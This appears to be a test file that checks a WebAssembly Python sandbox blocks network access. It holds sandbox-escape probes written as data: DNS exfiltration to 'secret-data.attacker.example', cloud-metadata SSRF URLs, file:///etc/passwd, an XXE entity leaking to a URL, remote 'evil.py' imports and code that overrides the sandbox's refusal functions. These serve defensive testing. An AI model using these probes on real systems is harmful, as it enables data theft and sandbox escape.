import type { Family } from '../../../src/selfTest/attempt.js';
import { lines } from '../lines.js';
import { py } from '../py.js';
import { SAID } from '../said.js';

/**
 * `reached(call, …)`: like `said`, and looks into the errors that urllib wraps. `got …` would be
 * the proof that something was reached.
 */
const REACHED = `${SAID}${py`
  def reached(call, *args, **options):
      def opened():
          try: return call(*args, **options)
          except OSError as error: raise error.reason if isinstance(getattr(error, 'reason', None), OSError) else error
      return said(opened)
`}\n`;

export const network: Family = {
  name: 'network',
  title: 'Send something to, or receive something from, another machine or this one.',
  attempts: [
    {
      name: 'connects a socket of each kind',
      source:
        SAID +
        py`
          import socket
          for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNSPEC, 1, 16, 17, 40, -1):
              for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, 3): print(said(socket.socket, family, kind), end=' ')
          print()
          for host in ('example.com', '93.184.215.14', '2606:2800:21f:cb07:6820:80da:af6b:8b2c', 'localhost', '127.0.0.1', '::1', '0.0.0.0', '', '169.254.169.254'):
              print(said(socket.create_connection, (host, 80), timeout=1), end=' ')
        `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest socket ENETUNREACH',
          'guest connect example.com:80 ENETUNREACH',
          'guest connect [::1]:80 ENETUNREACH',
          'guest connect 169.254.169.254:80 ENETUNREACH',
        ],
        stdout: `${'ENETUNREACH '.repeat(24)}\n${'ENETUNREACH '.repeat(9)}`,
      },
    },
    {
      name: 'goes below the socket module',
      source:
        SAID +
        py`
          import _socket, socket
          class Bare(socket.socket):
              def __init__(self, *arguments): _socket.socket.__init__(self, 2, 1, 0)
          print(said(_socket.socket), said(_socket.socket, 10, 2), said(_socket.socket, 1, 1), said(_socket.SocketType, 2, 3, 1), said(Bare))
          print([name for name in ('connect', 'connect_ex', 'bind', 'listen', 'accept', 'sendto', 'recvfrom', 'sendmsg', 'recvmsg', 'setsockopt',
                                   'getsockname', 'getpeername', 'ioctl', 'share', 'sendmsg_afalg') if hasattr(_socket.socket, name)])
          print([name for name in ('getaddrinfo', 'gethostbyname', 'gethostbyname_ex', 'gethostbyaddr', 'getnameinfo', 'socketpair', 'sethostname',
                                   'if_nameindex', 'CMSG_LEN', 'AF_UNIX', 'AF_PACKET', 'AF_VSOCK', 'AF_NETLINK', 'AF_BLUETOOTH', 'SCM_RIGHTS')
                 if hasattr(_socket, name)])
          unborn = socket.socket.__new__(socket.socket)
          print(said(unborn.recv, 1), said(unborn.send, b'x'), said(unborn.shutdown, 2), said(unborn.sendall, b'x'))
        `,
      expect: {
        outcome: 'exited 0',
        refused: ['guest socket ENOTSUP'],
        stdout: lines(
          'ENOTSUP ENOTSUP ENOTSUP ENOTSUP ENOTSUP',
          '[]',
          '[]',
          'ENOTSOCK ENOTSOCK ENOTSOCK ENOTSOCK',
        ),
      },
    },
    {
      name: 'speaks the socket calls of WASI to the descriptors that it has',
      source:
        SAID +
        py`
          import _socket, os
          file = os.open('/tmp/file', os.O_CREAT | os.O_RDWR)
          for fd in (0, 1, 2, 3, file, 77, 2**31 - 1):
              borrowed = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM, 0, fileno=fd)
              print(said(borrowed.recv, 9), said(borrowed.send, b'x'), said(borrowed.sendall, b'x'), said(borrowed.shutdown, 2),
                    said(borrowed.recv_into, bytearray(9)), said(borrowed._accept), said(borrowed.getsockopt, 1, 4))
              borrowed.detach()
        `,
      expect: {
        outcome: 'exited 0',
        stdout: 'ENOTSOCK ENOTSOCK ENOTSOCK ENOTSOCK ENOTSOCK ENOTSOCK ENOPROTOOPT\n'.repeat(7),
        refused: [
          'wasi sock_recv ENOTSOCK',
          'wasi sock_send ENOTSOCK',
          'wasi sock_shutdown ENOTSOCK',
          'wasi sock_accept ENOTSOCK',
        ],
      },
    },
    {
      name: 'makes sockets of the descriptors that it has',
      source:
        SAID +
        py`
          import os, socket, threading
          print(said(socket.fromfd, 0, socket.AF_INET, socket.SOCK_STREAM), said(socket.socket, fileno=1), said(socket.socket, fileno=3),
                said(socket.dup, 0), said(socket.socketpair), said(socket.socket, fileno=77))
          class Borrowed(socket.socket):
              def __init__(self, fd):
                  super(socket.socket, self).__init__(socket.AF_INET, socket.SOCK_STREAM, 0, fileno=fd)
                  self._io_refs, self._closed = 0, False
          borrowed = Borrowed(0)
          print(said(borrowed.makefile('rwb').read), said(borrowed.accept), said(borrowed.sendfile, open('/usr/local/lib/python314.zip', 'rb')), borrowed.fileno())
          borrowed.detach()
        `,
      expect: {
        outcome: 'exited 0',
        stdout: lines(
          'ENOTSUP ENETUNREACH ENETUNREACH ENOTSUP ENETUNREACH ENETUNREACH',
          'ENOTSOCK ENOTSOCK ENOTSOCK 0',
        ),
        refused: ['guest socketpair ENETUNREACH', 'wasi sock_recv ENOTSOCK'],
      },
    },
    {
      name: 'turns the refusal off: another platform, a reloaded module, replaced functions',
      source:
        REACHED +
        py`
          import importlib, socket, sys, urllib.request
          nothing = lambda *arguments, **options: None
          for module in [module for name, module in sys.modules.items() if name.startswith(('_wasm_sandbox', 'socket'))]:
              for name in [name for name in vars(module) if name.startswith('refuse')]: setattr(module, name, nothing)
          sys.platform = 'linux'
          print(said(socket.socket), said(socket.create_connection, ('example.com', 80)))
          importlib.reload(socket)
          print(said(lambda: socket.socket()), said(lambda: socket.create_connection(('93.184.215.14', 80))), said(lambda: socket.getaddrinfo('localhost', 80)))
          print(reached(urllib.request.urlopen, 'http://example.com'))
        `,
      expect: {
        outcome: 'exited 0',
        refused: ['guest socket ENOTSUP'],
        stdout: lines(
          'ENOTSUP AttributeError',
          'ENOTSUP AttributeError AttributeError',
          'AttributeError',
        ),
      },
    },
    {
      name: 'asks for names and addresses',
      source:
        SAID +
        py`
          import socket
          for call, arguments in ((socket.getaddrinfo, ('example.com', 443)), (socket.getaddrinfo, ('secret-data.attacker.example', None)),
                                  (socket.gethostbyname, ('example.com',)), (socket.gethostbyname_ex, ('example.com',)), (socket.gethostbyaddr, ('8.8.8.8',)),
                                  (socket.getnameinfo, (('8.8.8.8', 53), 0)), (socket.getservbyname, ('http',)), (socket.getservbyport, (80,))):
              print(said(call, *arguments), end=' ')
          print(socket.gethostname(), socket.getfqdn(), socket.has_dualstack_ipv6(), hasattr(socket, 'if_nameindex'))
        `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest getaddrinfo secret-data.attacker.example ENETUNREACH',
          'guest gethostbyname example.com ENETUNREACH',
          'guest gethostbyaddr 8.8.8.8 ENETUNREACH',
          'guest getnameinfo 8.8.8.8:53 ENETUNREACH',
          'guest getservbyname http ENETUNREACH',
        ],
        stdout: `${'ENETUNREACH '.repeat(8)}localhost localhost False False\n`,
      },
    },
    {
      name: 'opens addresses of each scheme',
      source:
        REACHED +
        py`
          import urllib.request
          for url in ('http://example.com', 'https://example.com', 'ftp://example.com/x', 'http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal',
                      'http://localhost:9229/json', 'http://[::1]:8000/', 'http://2130706433', 'http://0x7f.1', 'http://0177.0.0.1', 'http://user:pass@127.0.0.1',
                      'file://example.com/etc/passwd', '//example.com', 'gopher://example.com', 'ws://example.com', 'dict://localhost:11211/stat', 'jar:http://x!/y',
                      'vscode://settings', 'blob:http://localhost/1', 'chrome://version', 'http://example.com\r\nX: y', 'http://\u24d4xample.com', 'unix:/var/run/docker.sock'):
              print(url.encode('unicode_escape').decode(), reached(urllib.request.urlopen, url, timeout=1))
        `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest connect 169.254.169.254:80 ENETUNREACH',
          'guest connect localhost:9229 ENETUNREACH',
          'guest connect [::1]:8000 ENETUNREACH',
          'guest connect 0x7f.1:80 ENETUNREACH',
        ],
        stdout: lines(
          'http://example.com ENETUNREACH',
          'https://example.com ENETUNREACH',
          'ftp://example.com/x ENETUNREACH',
          'http://169.254.169.254/latest/meta-data/ ENETUNREACH',
          'http://metadata.google.internal ENETUNREACH',
          'http://localhost:9229/json ENETUNREACH',
          'http://[::1]:8000/ ENETUNREACH',
          'http://2130706433 ENETUNREACH',
          'http://0x7f.1 ENETUNREACH',
          'http://0177.0.0.1 ENETUNREACH',
          'http://user:pass@127.0.0.1 InvalidURL',
          'file://example.com/etc/passwd ENETUNREACH',
          '//example.com ValueError',
          'gopher://example.com URLError',
          'ws://example.com URLError',
          'dict://localhost:11211/stat URLError',
          'jar:http://x!/y URLError',
          'vscode://settings URLError',
          'blob:http://localhost/1 URLError',
          'chrome://version URLError',
          'http://example.com\\r\\nX: y InvalidURL',
          'http://\\u24d4xample.com UnicodeEncodeError',
          'unix:/var/run/docker.sock URLError',
        ),
      },
    },
    {
      name: 'goes through proxies, redirects and openers of its own',
      source:
        REACHED +
        py`
          import os, urllib.request, urllib.robotparser
          os.environ.update(http_proxy='http://127.0.0.1:3128', https_proxy='http://127.0.0.1:3128', all_proxy='socks5://127.0.0.1:1080', no_proxy='')
          print(sorted(urllib.request.getproxies()))
          opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://localhost:8080'}), urllib.request.HTTPRedirectHandler())
          robots = urllib.robotparser.RobotFileParser('http://example.com/robots.txt')
          print(reached(opener.open, 'http://example.com'), reached(opener.open, urllib.request.Request('http://x', b'secret', method='PUT')),
                reached(urllib.request.urlretrieve, 'http://example.com', '/tmp/x'), reached(robots.read), os.listdir('/tmp'))
        `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest connect localhost:8080 ENETUNREACH',
          'guest connect 127.0.0.1:3128 ENETUNREACH',
        ],
        stdout: lines(
          "['all', 'http', 'https']",
          'ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH []',
        ),
      },
    },
    {
      name: 'speaks HTTP, with and without TLS',
      source:
        SAID +
        py`
          import http.client, importlib
          for connection in (http.client.HTTPConnection('example.com'), http.client.HTTPSConnection('example.com'), http.client.HTTPConnection('127.0.0.1', 1, timeout=1)):
              connection.set_debuglevel(0)
              print(said(connection.connect), said(connection.request, 'POST', '/', b'secret'), said(connection.getresponse))
          tunnel = http.client.HTTPSConnection('proxy', 3128)
          tunnel.set_tunnel('example.com')
          print(said(tunnel.request, 'GET', '/'))
          for name in ('ssl', '_ssl', 'requests', 'urllib3', 'httpx', 'aiohttp', 'pycurl', 'certifi'): print(said(importlib.import_module, name), end=' ')
        `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest connect example.com:443 ENETUNREACH',
          'guest connect proxy:3128 ENETUNREACH',
          'guest import ssl',
        ],
        stdout:
          lines(
            'ENETUNREACH ENETUNREACH AttributeError',
            'ENETUNREACH ENETUNREACH AttributeError',
            'ENETUNREACH ENETUNREACH AttributeError',
            'ENETUNREACH',
          ) +
          'ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ',
      },
    },
    {
      name: 'moves files with FTP',
      source:
        SAID +
        py`
          import ftplib
          print(said(ftplib.FTP, 'example.com'), said(ftplib.FTP, 'localhost', 'anonymous', 'x', timeout=1), said(ftplib.FTP().connect, '127.0.0.1', 21))
          unconnected = ftplib.FTP()
          unconnected.host = 'example.com'
          print(said(unconnected.login), said(unconnected.makeport), said(unconnected.storbinary, 'STOR x', open('/usr/local/lib/python314.zip', 'rb')))
        `,
      expect: {
        outcome: 'exited 0',
        refused: ['guest connect example.com:21 ENETUNREACH'],
        stdout: lines(
          'ENETUNREACH ENETUNREACH ENETUNREACH',
          'AttributeError AttributeError AttributeError',
        ),
      },
    },
    {
      name: 'sends and fetches mail',
      source:
        SAID +
        py`
          import imaplib, poplib, smtplib
          print(said(smtplib.SMTP, 'mail.example.com'), said(smtplib.SMTP, 'localhost', 25, timeout=1), said(smtplib.SMTP().connect, 'smtp.gmail.com', 587),
                said(smtplib.SMTP().sendmail, 'a@example.com', 'b@example.com', 'secret'), said(smtplib.LMTP, 'localhost'))
          print(said(imaplib.IMAP4, 'mail.example.com'), said(imaplib.IMAP4, timeout=1), said(poplib.POP3, 'mail.example.com'), said(poplib.POP3, 'localhost', timeout=1))
        `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest connect smtp.gmail.com:587 ENETUNREACH',
          'guest connect mail.example.com:143 ENETUNREACH',
          'guest connect mail.example.com:110 ENETUNREACH',
        ],
        stdout: lines(
          'ENETUNREACH ENETUNREACH ENETUNREACH SMTPServerDisconnected ENETUNREACH',
          'ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH',
        ),
      },
    },
    {
      name: 'calls procedures of another machine',
      source:
        SAID +
        py`
          import importlib, xmlrpc.client
          for address in ('http://example.com/RPC2', 'https://example.com/RPC2', 'http://localhost:8000'):
              proxy = xmlrpc.client.ServerProxy(address)
              print(said(proxy.system.listMethods), said(proxy.steal, 'secret'), said(xmlrpc.client.MultiCall(proxy)))
          for name in ('multiprocessing.connection', 'multiprocessing.managers', 'grpc', 'zmq', 'paramiko', 'redis', 'psycopg', 'telnetlib', 'nntplib'):
              print(said(importlib.import_module, name), end=' ')
        `,
      expect: {
        outcome: 'exited 0',
        refused: ['guest connect example.com:443 ENETUNREACH', 'guest import multiprocessing'],
        stdout:
          'ENETUNREACH ENETUNREACH ENETUNREACH\n'.repeat(3) +
          'ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ModuleNotFoundError ',
      },
    },
    {
      name: 'listens, to be called',
      source:
        SAID +
        py`
          import http.server, socket, socketserver, wsgiref.simple_server, xmlrpc.server
          for server in (socketserver.TCPServer, socketserver.UDPServer, socketserver.ThreadingTCPServer, socketserver.ThreadingUDPServer, http.server.HTTPServer, http.server.ThreadingHTTPServer):
              print(said(server, ('127.0.0.1', 0), None), said(server, ('', 8000), None, bind_and_activate=False), end=' ')
          print()
          print(said(socket.create_server, ('', 0)), said(socket.create_server, ('::', 0), family=socket.AF_INET6), said(http.server.test, port=0),
                said(xmlrpc.server.SimpleXMLRPCServer, ('localhost', 0)), said(wsgiref.simple_server.make_server, '', 0, None),
                hasattr(socketserver, 'UnixStreamServer'), hasattr(socketserver, 'ForkingTCPServer'))
        `,
      expect: {
        outcome: 'exited 0',
        refused: ['guest socket ENETUNREACH', 'guest listen [::]:0 ENETUNREACH'],
        stdout: lines(
          'ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ',
          'ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH False False',
        ),
      },
    },
    {
      name: 'connects and listens through asyncio',
      source: py`
        import asyncio, errno, socket, sys
        async def main():
            loop = asyncio.get_running_loop()
            for name, start in (('open_connection', lambda: asyncio.open_connection('example.com', 80)), ('with TLS', lambda: asyncio.open_connection('example.com', 443, ssl=True)),
                                ('to an address', lambda: loop.create_connection(asyncio.Protocol, '127.0.0.1', 80)), ('start_server', lambda: asyncio.start_server(print, 'localhost', 0)),
                                ('datagrams', lambda: loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=('8.8.8.8', 53))),
                                ('broadcast', lambda: loop.create_datagram_endpoint(asyncio.DatagramProtocol, local_addr=('0.0.0.0', 0), allow_broadcast=True)),
                                ('getaddrinfo', lambda: loop.getaddrinfo('example.com', 80)), ('getnameinfo', lambda: loop.getnameinfo(('8.8.8.8', 53))),
                                ('read pipe', lambda: loop.connect_read_pipe(asyncio.Protocol, sys.stdin)), ('write pipe', lambda: loop.connect_write_pipe(asyncio.Protocol, sys.stdout))):
                try: print(name, 'reached', await asyncio.wait_for(start(), 5))
                except OSError as error: print(name, errno.errorcode[error.errno])
                except NotImplementedError as error: print(name, 'NotImplementedError')
            try: loop.add_reader(0, print)
            except NotImplementedError: print('add_reader NotImplementedError')
            print(hasattr(asyncio, 'open_unix_connection'), hasattr(asyncio, 'start_unix_server'))
        asyncio.run(main())
      `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest connect example.com:443 ENETUNREACH',
          'guest listen localhost:0 ENETUNREACH',
          'guest getaddrinfo example.com ENETUNREACH',
        ],
        stdout: lines(
          'open_connection ENETUNREACH',
          'with TLS ENETUNREACH',
          'to an address ENETUNREACH',
          'start_server ENETUNREACH',
          'datagrams ENETUNREACH',
          'broadcast ENETUNREACH',
          'getaddrinfo ENETUNREACH',
          'getnameinfo ENETUNREACH',
          'read pipe NotImplementedError',
          'write pipe NotImplementedError',
          'add_reader NotImplementedError',
          'False False',
        ),
      },
    },
    {
      name: 'waits for what the network may bring',
      source:
        SAID +
        py`
          import asyncio, select, selectors
          print(said(select.select, [0], [], [], 0), said(select.select, [77], [], [], 0), said(select.select, [-1], [], [], 0), said(select.select, [10**6], [], [], 0))
          poll = select.poll()
          for fd in (0, 1, 77): poll.register(fd)
          print([fd for fd, events in poll.poll(0) if not events & select.POLLNVAL], [name for name in ('epoll', 'kqueue', 'devpoll') if hasattr(select, name)])
          print(selectors.DefaultSelector().__class__.__name__, selectors.DefaultSelector().select(0))
        `,
      expect: {
        outcome: 'exited 0',
        stdout: lines(
          'got ([0], [], []) got ([], [], []) ValueError ValueError',
          '[0, 1] []',
          'PollSelector []',
        ),
      },
    },
    {
      name: 'sends its log to another machine',
      source: py`
        import errno, logging, logging.config, logging.handlers
        logger = logging.getLogger('secrets')
        logger.propagate = False
        for make in (lambda: logging.handlers.SocketHandler('example.com', 9020), lambda: logging.handlers.DatagramHandler('8.8.8.8', 53),
                     lambda: logging.handlers.HTTPHandler('example.com', '/', method='POST'), lambda: logging.handlers.HTTPHandler('example.com', '/', secure=True),
                     lambda: logging.handlers.SMTPHandler('mail.example.com', 'a@example.com', ['b@example.com'], 'secret'),
                     lambda: logging.handlers.SysLogHandler(('example.com', 514)), lambda: logging.handlers.SysLogHandler('/dev/log')):
            sent = []
            try: handler = make()
            except (OSError, AttributeError) as error: print('not made'); continue
            handler.handleError = lambda record: sent.append('failed')
            logger.addHandler(handler)
            logger.error('secret')
            logger.removeHandler(handler)
            print(type(handler).__name__, sent, getattr(handler, 'sock', None))
        try: logging.config.listen(0).start()
        except RuntimeError as error: print(error)
      `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest connect example.com:9020 ENETUNREACH',
          'guest connect mail.example.com:25 ENETUNREACH',
        ],
        stdout: lines(
          'SocketHandler [] None',
          "DatagramHandler ['failed'] None",
          "HTTPHandler ['failed'] None",
          "HTTPHandler ['failed'] None",
          "SMTPHandler ['failed'] None",
          'not made',
          'not made',
          "can't start new thread",
        ),
      },
    },
    {
      name: 'has documents fetched that others point to',
      source:
        REACHED +
        py`
          import importlib.resources, io, xml.dom.pulldom, xml.sax, zipfile, zipimport
          from xml.etree import ElementInclude, ElementTree
          parser = xml.sax.make_parser()
          parser.setFeature(xml.sax.handler.feature_external_ges, True)
          document = '<!DOCTYPE x [<!ENTITY e SYSTEM "http://example.com/?secret">]><x>&e;</x>'
          print(reached(parser.parse, io.StringIO(document)), reached(parser.parse, 'http://example.com/x.xml'), reached(xml.sax.parse, 'ftp://example.com/x.xml', xml.sax.handler.ContentHandler()))
          tree = ElementTree.fromstring('<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="http://example.com/x.xml"/></x>')
          print(said(ElementInclude.include, tree), said(ElementTree.parse, 'http://example.com/x.xml'), said(zipimport.zipimporter, 'http://example.com/x.zip'),
                said(zipfile.ZipFile, 'http://example.com/x.zip'), reached(xml.dom.pulldom.parse, '//example.com/x'))
        `,
      expect: {
        outcome: 'exited 0',
        refused: [
          'guest connect example.com:80 ENETUNREACH',
          'guest gethostbyname example.com ENETUNREACH',
        ],
        stdout: lines(
          'ENETUNREACH ENETUNREACH ENETUNREACH',
          'ENOENT ENOENT ZipImportError ENOENT ENOENT',
        ),
      },
    },
    {
      name: 'serves its own documentation, and opens it',
      source:
        SAID +
        py`
          import pydoc
          print(said(pydoc.browse), said(pydoc._start_server, lambda url, kind: '', 'localhost', 0))
        `,
      expect: { outcome: 'exited 0', stdout: 'RuntimeError RuntimeError\n' },
    },
    {
      name: 'imports from an address',
      source:
        SAID +
        py`
          import importlib.util, runpy, sys
          sys.path[:] = ['http://example.com/', 'https://pypi.org/simple', 'ftp://example.com', '//example.com/share', *sys.path]
          print(said(importlib.import_module, 'evil'), said(runpy.run_path, 'http://example.com/evil.py'),
                importlib.util.spec_from_file_location('evil', 'http://example.com/evil.py').loader.is_package('evil'),
                said(importlib.util.spec_from_file_location('evil', 'http://example.com/evil.py').loader.load_module))
        `,
      expect: { outcome: 'exited 0', stdout: 'ModuleNotFoundError ENOENT False ENOENT\n' },
    },
    {
      name: 'asks the browser or the runtime of another sandbox',
      source: py`
        import sys
        for name in ('js', 'pyodide', 'pyodide.http', 'pyodide_js', '_pyodide', 'emscripten', '_emscripten', 'wasmer', 'micropip', 'piplite', 'browser', 'wasi', 'node',
                     'vscode', '__javascript__', 'com', 'java', 'clr', 'wit_world', 'componentize_py', 'spin_sdk'):
            try: __import__(name); print('has', name)
            except ImportError: pass
        print([name for name in dir(sys) if 'js' in name.lower() or 'emscripten' in name.lower()])
        print([name for name in sys.modules if name.startswith('_wasm')], sorted(name for name in dir(sys.modules.get('_wasm_sandbox_host')) if not name.startswith('_') and not name.startswith('refuse')))
      `,
      expect: {
        outcome: 'exited 0',
        stdout: lines(
          '[]',
          "['_wasm_sandbox._builtins', '_wasm_sandbox_host', '_wasm_sandbox.absent', '_wasm_sandbox.describe', '_wasm_sandbox.prelude', '_wasm_sandbox.source', '_wasm_sandbox.program', '_wasm_sandbox.renew', '_wasm_sandbox'] ['report']",
        ),
      },
    },
  ],
};
